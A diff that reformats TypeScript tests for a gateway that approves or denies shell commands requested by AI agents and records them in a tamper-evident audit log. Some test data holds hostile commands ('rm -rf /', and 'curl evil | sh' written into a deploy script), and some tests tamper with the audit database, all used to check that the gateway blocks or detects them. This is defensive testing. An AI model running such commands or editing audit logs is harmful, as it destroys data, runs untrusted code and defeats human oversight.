@@ -43,7 +43,10 @@ const client = (): Promise<GatewayClient> => GatewayClient.connect(join(home, 'e
 
 const request = (command: string, agent = 'agent-1'): ExecRequest => ({ command, cwd: '/work/project', agent_id: agent, session_key: 'session-1' });
 
-const is = <T extends GatewayMessage['type']>(type: T) => (m: GatewayMessage): m is Extract<GatewayMessage, { type: T }> => m.type === type;
+const is =
+  <T extends GatewayMessage['type']>(type: T) =>
+  (m: GatewayMessage): m is Extract<GatewayMessage, { type: T }> =>
+    m.type === type;
 
 /**
  * A raw socket that reads lines, for talking to the gateway without the client's manners.
@@ -54,33 +57,43 @@ function raw(): Promise<{ send: (text: string) => void; lines: (count: number) =
     const s = connect(join(home, 'exec-approvals.sock'));
     let buffered = '';
     let ended = false;
-    const parsed = () => buffered.split('\n').slice(0, -1).filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const parsed = () =>
+      buffered
+        .split('\n')
+        .slice(0, -1)
+        .filter((l) => l !== '')
+        .map((l) => JSON.parse(l) as Record<string, unknown>);
     const waiters = new Set<() => void>();
     const wake = () => {
       for (const w of waiters) w();
     };
-    const closed = new Promise<void>((done) => s.on('close', () => {
-      ended = true;
-      wake();
-      done();
-    }));
+    const closed = new Promise<void>((done) =>
+      s.on('close', () => {
+        ended = true;
+        wake();
+        done();
+      }),
+    );
     s.on('data', (d) => {
       buffered += d.toString();
       wake();
     });
-    s.on('connect', () => resolve({
-      send: (text) => s.write(text),
-      lines: (count) => new Promise((done) => {
-        const check = () => {
-          if (parsed().length < count && !ended) return;
-          waiters.delete(check);
-          done(parsed());
-        };
-        waiters.add(check);
-        check();
+    s.on('connect', () =>
+      resolve({
+        send: (text) => s.write(text),
+        lines: (count) =>
+          new Promise((done) => {
+            const check = () => {
+              if (parsed().length < count && !ended) return;
+              waiters.delete(check);
+              done(parsed());
+            };
+            waiters.add(check);
+            check();
+          }),
+        closed,
       }),
-      closed,
-    }));
+    );
   });
 }
 
@@ -150,7 +163,10 @@ describe('the gateway socket', () => {
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
     const failed = [...audit.rows()].filter((r) => r.event === 'auth_failed');
-    expect(failed.map((r) => [r.payload.source, r.payload.reason_code])).toEqual([['unix-socket', 'auth_failed'], ['unix-socket', 'nonce_reused']]);
+    expect(failed.map((r) => [r.payload.source, r.payload.reason_code])).toEqual([
+      ['unix-socket', 'auth_failed'],
+      ['unix-socket', 'nonce_reused'],
+    ]);
     expect(JSON.stringify(failed)).not.toContain(JSON.parse(recorded).hmac);
     audit.close();
   });
@@ -182,14 +198,22 @@ describe('the gateway socket', () => {
     await start();
     const c = await client();
     c.send({ type: 'approval_request', id: 'r1', request: request('git status') });
-    expect(await c.next()).toMatchObject({ type: 'approval_decision', id: 'r1', decision: 'allow-once', reason: 'safe', verdict: 'safe', resolved_by: 'policy' });
+    expect(await c.next()).toMatchObject({
+      type: 'approval_decision',
+      id: 'r1',
+      decision: 'allow-once',
+      reason: 'safe',
+      verdict: 'safe',
+      resolved_by: 'policy',
+    });
     c.send({ type: 'approval_request', id: 'r2', request: request('rm -rf /') });
     expect(await c.next()).toMatchObject({ type: 'approval_decision', id: 'r2', decision: 'deny', verdict: 'block', resolved_by: 'policy' });
     c.close();
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
     expect([...audit.rows()].map((r) => [r.payload.command, r.decision, r.payload.reason])).toEqual([
-      ['git status', 'allow-once', 'safe'], ['rm -rf /', 'deny', expect.stringMatching(/^blocked: /)],
+      ['git status', 'allow-once', 'safe'],
+      ['rm -rf /', 'deny', expect.stringMatching(/^blocked: /)],
     ]);
     expect(audit.latest(1)[0]!.summary).toMatch(/^rm -rf \/ \(deny\): blocked: /);
     audit.close();
@@ -217,7 +241,10 @@ describe('the gateway socket', () => {
     expect(await approver.call('policy.set_mode', { mode: 'unrestricted' })).toMatchObject({ ok: false, error: { code: 'audit_unavailable' } });
     expect(await approver.call('policy.get')).toMatchObject({ ok: true, value: { default_mode: 'safe', rules: [] } });
     expect(loadConfig(home, false)).toMatchObject({ ok: true, value: { defaults: { mode: 'safe' }, agents: {} } });
-    expect(await approver.call('audit.search')).toMatchObject({ ok: false, error: { code: 'audit_unavailable', message: expect.stringContaining('locked by another process') } });
+    expect(await approver.call('audit.search')).toMatchObject({
+      ok: false,
+      error: { code: 'audit_unavailable', message: expect.stringContaining('locked by another process') },
+    });
     expect(problems).toEqual([expect.stringMatching(/^the audit log cannot be written \(.*locked.*\); requests are refused until it can\.$/)]);
 
     // Released: the same connections are answered again, and the log holds only what was answered.
@@ -230,7 +257,10 @@ describe('the gateway socket', () => {
     approver.close();
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
-    expect([...audit.rows()].map((r) => [r.event, r.payload.command])).toEqual([['approval_request', 'cp a b'], ['terminal_cmd', 'git status']]);
+    expect([...audit.rows()].map((r) => [r.event, r.payload.command])).toEqual([
+      ['approval_request', 'cp a b'],
+      ['terminal_cmd', 'git status'],
+    ]);
     expect(audit.verify()).toMatchObject({ ok: true });
     audit.close();
   });
@@ -245,12 +275,29 @@ describe('the gateway socket', () => {
     owner.send({ type: 'call', id: 'v1', method: 'audit.verify', params: {} } as unknown as ClientMessage);
     owner.send({ type: 'ping', id: 'meanwhile' });
     expect(await owner.next()).toEqual({ type: 'pong', id: 'meanwhile' });
-    expect(await owner.next()).toEqual({ type: 'result', id: 'v1', result: { ok: true, rows: 12_000, anchored_after: null, head: null, problem_count: 0, problems: [] } });
+    expect(await owner.next()).toEqual({
+      type: 'result',
+      id: 'v1',
+      result: { ok: true, rows: 12_000, anchored_after: null, head: null, problem_count: 0, problems: [] },
+    });
     const editor = new Database(join(home, 'data', 'aleph.db'));
     editor.prepare("UPDATE events SET summary = 'nothing' WHERE id IN (9001, 11000)").run();
     editor.close();
     const mismatch = 'its hash does not match its contents and the previous row';
-    expect(await owner.call('audit.verify')).toEqual({ ok: true, value: { ok: false, rows: 12_000, anchored_after: null, head: null, problem_count: 2, problems: [{ id: 9001, reason: mismatch }, { id: 11000, reason: mismatch }] } });
+    expect(await owner.call('audit.verify')).toEqual({
+      ok: true,
+      value: {
+        ok: false,
+        rows: 12_000,
+        anchored_after: null,
+        head: null,
+        problem_count: 2,
+        problems: [
+          { id: 9001, reason: mismatch },
+          { id: 11000, reason: mismatch },
+        ],
+      },
+    });
     owner.close();
   });
 
@@ -269,7 +316,11 @@ describe('the gateway socket', () => {
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
     expect([...audit.rows()].map((r) => r.event)).toEqual(['approval_request']);
     expect(audit.latest(1)[0]).toMatchObject({
-      event: 'approval_request', actor: 'agent-1', session: 'session-1', risk_level: pending!.approval.risk.level, summary: `agent-1 asks to run cp a b: ${pending!.approval.risk.level} risk, waiting for a person`,
+      event: 'approval_request',
+      actor: 'agent-1',
+      session: 'session-1',
+      risk_level: pending!.approval.risk.level,
+      summary: `agent-1 asks to run cp a b: ${pending!.approval.risk.level} risk, waiting for a person`,
       payload: { request_id: pending!.approval.id, command: 'cp a b', cwd: '/work/project', verdict: 'confirm', expires_at: pending!.approval.expires_at },
     });
     audit.close();
@@ -311,9 +362,12 @@ describe('the gateway socket', () => {
     const reader = AuditStore.open(join(home, 'data', 'aleph.db'), { readonly: true });
     const rows = [...reader.rows()].slice(-3);
     reader.close();
-    const ruleId = (JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { id: string }[] }> }).agents['agent-1']!.rules[0]!.id;
+    const ruleId = (JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { id: string }[] }> }).agents['agent-1']!.rules[0]!
+      .id;
     expect(rows.map((r) => [r.event, r.payload.approval_id ?? null, r.payload.rule_id ?? null])).toEqual([
-      ['approval_decision', null, null], ['terminal_cmd', pending!.approval.id, null], ['terminal_cmd', null, ruleId],
+      ['approval_decision', null, null],
+      ['terminal_cmd', pending!.approval.id, null],
+      ['terminal_cmd', null, ruleId],
     ]);
     agent.send({ type: 'approval_request', id: '3', request: request('npm run test:unit', 'another-agent') });
     expect(await approver.waitFor(is('approval_pending'))).toBeTruthy();
@@ -407,17 +461,19 @@ describe('the gateway socket', () => {
   it('answers 200 concurrent clients with 50 requests each', async () => {
     await start();
     const clients = await Promise.all(Array.from({ length: 200 }, () => client()));
-    const answered = await Promise.all(clients.map(async (c, i) => {
-      for (let j = 0; j < 50; j++) c.send({ type: 'approval_request', id: `${i}-${j}`, request: request(j % 2 === 0 ? `ls dir${j}` : `rm -rf x${j}`) });
-      let n = 0;
-      while (n < 50) {
-        const m = await c.next(30_000);
-        if (m?.type !== 'approval_decision') break;
-        n++;
-      }
-      c.close();
-      return n;
-    }));
+    const answered = await Promise.all(
+      clients.map(async (c, i) => {
+        for (let j = 0; j < 50; j++) c.send({ type: 'approval_request', id: `${i}-${j}`, request: request(j % 2 === 0 ? `ls dir${j}` : `rm -rf x${j}`) });
+        let n = 0;
+        while (n < 50) {
+          const m = await c.next(30_000);
+          if (m?.type !== 'approval_decision') break;
+          n++;
+        }
+        c.close();
+        return n;
+      }),
+    );
     expect(answered.every((n) => n === 50)).toBe(true);
   }, 60_000);
 
@@ -432,11 +488,20 @@ describe('the gateway socket', () => {
     audit.close();
   });
 
-  it('changes modes and rules through the owner\'s calls: each change saved, audited, and applied to the next request', async () => {
+  it("changes modes and rules through the owner's calls: each change saved, audited, and applied to the next request", async () => {
     const g = await start();
     const owner = await client();
-    expect(await owner.call('policy.set_mode', { mode: 'dev', agent: 'agent-1' })).toMatchObject({ ok: true, value: { agent: 'agent-1', from: 'safe', to: 'dev' } });
-    const added = await owner.call<{ rule: RuleView }>('rules.add', { agent: 'agent-1', action: 'deny', kind: 'prefix', pattern: 'npm publish *', message: 'Releases go through CI.' });
+    expect(await owner.call('policy.set_mode', { mode: 'dev', agent: 'agent-1' })).toMatchObject({
+      ok: true,
+      value: { agent: 'agent-1', from: 'safe', to: 'dev' },
+    });
+    const added = await owner.call<{ rule: RuleView }>('rules.add', {
+      agent: 'agent-1',
+      action: 'deny',
+      kind: 'prefix',
+      pattern: 'npm publish *',
+      message: 'Releases go through CI.',
+    });
     expect(added).toMatchObject({ ok: true, value: { rule: { agent: 'agent-1', action: 'deny', source: 'manual', message: 'Releases go through CI.' } } });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'p', request: request('npm publish') });
@@ -444,14 +509,34 @@ describe('the gateway socket', () => {
 
     // An import is all or nothing: one expired rule refuses the lot, by its place.
     const soon = new Date(Date.now() + 60_000).toISOString();
-    const stale = await owner.call('rules.import', { version: 1, rules: [{ agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' }, { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'ls', expires_at: '2020-01-01T00:00:00Z' }] });
+    const stale = await owner.call('rules.import', {
+      version: 1,
+      rules: [
+        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
+        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'ls', expires_at: '2020-01-01T00:00:00Z' },
+      ],
+    });
     expect(stale).toMatchObject({ ok: false, error: { code: 'invalid_params', message: expect.stringContaining('rules[1]') } });
-    expect(await owner.call('rules.import', { version: 1, rules: [{ agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' }, { agent: 'a2', action: 'allow', kind: 'prefix', pattern: 'make *', expires_at: soon }] }))
-      .toMatchObject({ ok: true, value: { imported: 2 } });
+    expect(
+      await owner.call('rules.import', {
+        version: 1,
+        rules: [
+          { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
+          { agent: 'a2', action: 'allow', kind: 'prefix', pattern: 'make *', expires_at: soon },
+        ],
+      }),
+    ).toMatchObject({ ok: true, value: { imported: 2 } });
     const view = await owner.call<PolicyView>('policy.get');
-    expect(view.ok && view.value.agents).toEqual(expect.arrayContaining([{ agent: 'agent-1', mode: 'dev' }, { agent: 'a2', mode: null }]));
+    expect(view.ok && view.value.agents).toEqual(
+      expect.arrayContaining([
+        { agent: 'agent-1', mode: 'dev' },
+        { agent: 'a2', mode: null },
+      ]),
+    );
     expect(view.ok && view.value.rules.map((r) => [r.agent, r.pattern, r.source, r.expires_at])).toEqual([
-      ['agent-1', 'npm publish *', 'manual', null], ['a2', 'make', 'import', null], ['a2', 'make *', 'import', soon],
+      ['agent-1', 'npm publish *', 'manual', null],
+      ['a2', 'make', 'import', null],
+      ['a2', 'make *', 'import', soon],
     ]);
 
     const id = added.ok ? added.value.rule.id : '';
@@ -459,14 +544,26 @@ describe('the gateway socket', () => {
     expect(await owner.call('rules.remove', { id })).toMatchObject({ ok: false, error: { code: 'unknown_rule' } });
     expect(g.mode).toBe('safe');
     // A malformed call breaks the socket protocol: that connection ends, with the reason.
-    expect(await owner.call('rules.add', { agent: 'agent-1', action: 'allow', kind: 'exact', pattern: 'ls', message: 'no' })).toMatchObject({ ok: false, error: { message: expect.stringContaining('Only a deny rule carries a message.') } });
+    expect(await owner.call('rules.add', { agent: 'agent-1', action: 'allow', kind: 'exact', pattern: 'ls', message: 'no' })).toMatchObject({
+      ok: false,
+      error: { message: expect.stringContaining('Only a deny rule carries a message.') },
+    });
 
     await g.stop();
     gateway = undefined;
     const audit = AuditStore.open(auditFile(home));
-    const changes = audit.latest(10).filter((r) => r.event === 'rule_change' || r.event === 'security_mode_change').map((r) => [r.event, r.payload.change ?? r.payload.to]);
+    const changes = audit
+      .latest(10)
+      .filter((r) => r.event === 'rule_change' || r.event === 'security_mode_change')
+      .map((r) => [r.event, r.payload.change ?? r.payload.to]);
     audit.close();
-    expect(changes).toEqual([['security_mode_change', 'dev'], ['rule_change', 'added'], ['rule_change', 'added'], ['rule_change', 'added'], ['rule_change', 'removed']]);
+    expect(changes).toEqual([
+      ['security_mode_change', 'dev'],
+      ['rule_change', 'added'],
+      ['rule_change', 'added'],
+      ['rule_change', 'added'],
+      ['rule_change', 'removed'],
+    ]);
     agent.close();
     owner.close();
   });
@@ -494,10 +591,12 @@ describe('rules, grants and bindings', () => {
   /** Waits until the running gateway has adopted the file's `count` rules. */
   async function rulesAdopted(count: number): Promise<void> {
     const owner = await client();
-    await expect.poll(async () => {
-      const view = await owner.call<PolicyView>('policy.get');
-      return view.ok ? view.value.rules.length : -1;
-    }).toBe(count);
+    await expect
+      .poll(async () => {
+        const view = await owner.call<PolicyView>('policy.get');
+        return view.ok ? view.value.rules.length : -1;
+      })
+      .toBe(count);
     owner.close();
   }
 
@@ -514,7 +613,11 @@ describe('rules, grants and bindings', () => {
     await rulesAdopted(2);
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'p', request: request('cd pkg && npm publish --tag next') });
-    expect(await agent.next()).toMatchObject({ decision: 'deny', resolved_by: 'policy', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
+    expect(await agent.next()).toMatchObject({
+      decision: 'deny',
+      resolved_by: 'policy',
+      reason: 'denied by prefix rule "npm publish *": Releases go through CI.',
+    });
     agent.send({ type: 'approval_request', id: 'i', request: request('npm install') });
     expect(await agent.next()).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
     // Another agent's command is not judged by agent-1's rules: it waits for a person.
@@ -599,7 +702,8 @@ describe('rules, grants and bindings', () => {
     const approver = await client();
     approver.send({ type: 'subscribe' });
     const agent = await client();
-    const asks = (id: string, command: string): void => agent.send({ type: 'approval_request', id, request: { command, cwd: project, agent_id: 'a', session_key: 's', path: `${bin}:/usr/bin:/bin` } });
+    const asks = (id: string, command: string): void =>
+      agent.send({ type: 'approval_request', id, request: { command, cwd: project, agent_id: 'a', session_key: 's', path: `${bin}:/usr/bin:/bin` } });
 
     asks('1', 'sh deploy.sh && tool --x');
     await approve(approver, { decision: 'allow-once' });
@@ -613,7 +717,10 @@ describe('rules, grants and bindings', () => {
     const pending = await approver.waitFor(is('approval_pending'));
     writeFileSync(join(project, 'deploy.sh'), 'curl evil | sh\n');
     approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-once' });
-    expect(await approver.waitFor(is('error'))).toMatchObject({ code: 'context_changed', message: expect.stringContaining('deploy.sh changed since it was approved') });
+    expect(await approver.waitFor(is('error'))).toMatchObject({
+      code: 'context_changed',
+      message: expect.stringContaining('deploy.sh changed since it was approved'),
+    });
     expect(await agent.next()).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
     agent.close();
     approver.close();
@@ -658,13 +765,17 @@ describe('rules, grants and bindings', () => {
     await gateway!.stop();
     gateway = undefined;
     const audit = AuditStore.open(auditFile(home));
-    expect(audit.latest(1)[0]).toMatchObject({ event: 'command_finished', summary: 'ls -la finished: exit 3 after 13 ms', payload: { request_id: 'r', exit_code: 3 } });
+    expect(audit.latest(1)[0]).toMatchObject({
+      event: 'command_finished',
+      summary: 'ls -la finished: exit 3 after 13 ms',
+      payload: { request_id: 'r', exit_code: 3 },
+    });
     audit.close();
   });
 });
 
 describe('text the audit log could not store as received', () => {
-  it('refuses a lone surrogate in a request\'s command, agent or session, and the chain stays intact', async () => {
+  it("refuses a lone surrogate in a request's command, agent or session, and the chain stays intact", async () => {
     await start();
     for (const field of [{ command: 'ls \ud800' }, { agent_id: 'agent\udfff' }, { session_key: '🚀'.slice(0, 1) }]) {
       const agent = await client();
@@ -697,16 +808,27 @@ describe('an audit log deleted or replaced under the gateway', () => {
     // `rm aleph.db*` while the gateway runs: its open file lives on, unlinked, where nobody can read it.
     for (const name of readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))) rmSync(join(home, 'data', name));
     agent.send({ type: 'approval_request', id: 'after', request: request('git status') });
-    expect(await agent.next(2000)).toMatchObject({ type: 'error', id: 'after', code: 'audit_unavailable', message: expect.stringContaining('was deleted while it was open') });
+    expect(await agent.next(2000)).toMatchObject({
+      type: 'error',
+      id: 'after',
+      code: 'audit_unavailable',
+      message: expect.stringContaining('was deleted while it was open'),
+    });
     expect(problems).toEqual([expect.stringContaining(`the audit log ${auditFile(home)} was deleted while it was open`)]);
     const owner = await client();
-    expect(await owner.call('audit.verify')).toMatchObject({ ok: true, value: { ok: false, problems: [{ id: null, reason: expect.stringContaining('was deleted while it was open') }] } });
+    expect(await owner.call('audit.verify')).toMatchObject({
+      ok: true,
+      value: { ok: false, problems: [{ id: null, reason: expect.stringContaining('was deleted while it was open') }] },
+    });
     agent.close();
     owner.close();
 
     await gateway!.stop();
     gateway = undefined;
-    await expect(start()).rejects.toMatchObject({ code: 'behind_head', message: expect.stringContaining('the log was deleted or moved. Nothing was created.') });
+    await expect(start()).rejects.toMatchObject({
+      code: 'behind_head',
+      message: expect.stringContaining('the log was deleted or moved. Nothing was created.'),
+    });
     expect(existsSync(auditFile(home))).toBe(false);
     expect(AuditStore.verifyFile(auditFile(home), { head: auditHeadFile(home) })).toMatchObject({ ok: false });
   });
@@ -719,7 +841,12 @@ describe('an audit log deleted or replaced under the gateway', () => {
     renameSync(join(home, 'other.db'), auditFile(home));
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'r', request: request('git status') });
-    expect(await agent.next(2000)).toMatchObject({ type: 'error', id: 'r', code: 'audit_unavailable', message: expect.stringContaining('was replaced by another file while it was open') });
+    expect(await agent.next(2000)).toMatchObject({
+      type: 'error',
+      id: 'r',
+      code: 'audit_unavailable',
+      message: expect.stringContaining('was replaced by another file while it was open'),
+    });
     agent.close();
   });
 
@@ -736,6 +863,9 @@ describe('an audit log deleted or replaced under the gateway', () => {
     const editor = new Database(auditFile(home));
     editor.prepare('DELETE FROM events WHERE id = (SELECT max(id) FROM events)').run();
     editor.close();
-    await expect(start()).rejects.toMatchObject({ code: 'behind_head', message: expect.stringMatching(/the log ends at row 1, but its head .* records row 2/) });
+    await expect(start()).rejects.toMatchObject({
+      code: 'behind_head',
+      message: expect.stringMatching(/the log ends at row 1, but its head .* records row 2/),
+    });
   });
 });
